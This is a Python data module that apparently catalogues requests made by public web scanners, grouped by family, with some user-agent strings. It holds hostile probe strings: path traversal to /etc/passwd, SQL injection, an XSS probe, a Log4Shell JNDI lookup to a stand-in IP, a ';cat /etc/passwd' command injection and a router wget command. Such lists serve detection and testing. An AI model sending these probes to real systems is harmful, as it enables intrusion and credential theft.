"""What public scanners ask for, family by family, written down from general knowledge of them."""

FAMILIES: dict[str, tuple[str, ...]] = {
    "content management": (
        "/wp-login.php", "/wp-content/plugins/revslider/readme.txt", "/xmlrpc.php?rsd", "/joomla/administrator/",
        "/user/login?destination=node", "/typo3/index.php", "/sites/default/settings.php",
    ),
    "old scripts": (
        "/cgi-bin/test-cgi", "/cgi-bin/printenv", "/scripts/iisadmin/ism.dll", "/_vti_bin/shtml.exe", "/phf?Qalias=x",
        "/cgi-bin/formmail.pl", "/iissamples/sdk/asp/docs/codebrws.asp",
    ),
    "names from a list": (
        "/old", "/test", "/private", "/secret", "/dev", "/staging", "/temp", "/data", "/upload", "/internal",
        "/hidden1", "/beta", "/intranet", "/logs", "/db", "/export",
    ),
    "backups": (
        "/backup.zip", "/www.tar.gz", "/site.sql.gz", "/index.html.bak", "/db_dump.sql", "/config.old", "/web.config~",
    ),
    "hidden files": (
        "/.git/HEAD", "/.svn/entries", "/.env", "/.htpasswd", "/.aws/credentials", "/.DS_Store", "/.ssh/id_rsa",
    ),
    "traversal": (
        "/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/download?file=../../../../windows/win.ini",
        "/images/%2e%2e/%2e%2e/boot.ini", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    ),
    "injection": (
        "/item?id=1'+OR+'1'='1", "/item?id=1+UNION+SELECT+null,version()--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?x=${jndi:ldap://203.0.113.66:1389/a}", "/ping?host=127.0.0.1;cat+/etc/passwd",
    ),
    "devices": (
        "/HNAP1/", "/boaform/admin/formLogin", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://x/y",
        "/GponForm/diag_Form?images/", "/cgi-bin/luci/;stok=/locale", "/onvif-http/snapshot",
        "/goform/set_LimitClient_cfg",
    ),
    "frameworks": (
        "/actuator/health", "/solr/admin/info/system?wt=json", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/_ignition/execute-solution", "/console/login/LoginForm.jsp", "/struts2-showcase/index.action",
        "/telescope/requests",
    ),
}  # fmt: skip
AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "python-requests/2.31.0",
    "",
)
